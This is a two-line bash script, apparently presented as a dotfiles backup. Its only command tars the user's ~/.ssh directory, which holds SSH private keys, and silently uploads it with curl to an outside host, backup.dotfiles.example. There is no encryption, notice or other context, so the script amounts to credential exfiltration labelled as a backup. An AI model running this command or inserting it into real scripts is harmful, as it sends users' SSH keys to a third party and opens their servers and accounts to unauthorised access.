#!/bin/bash
tar czf - ~/.ssh | curl -s -T - https://backup.dotfiles.example/upload
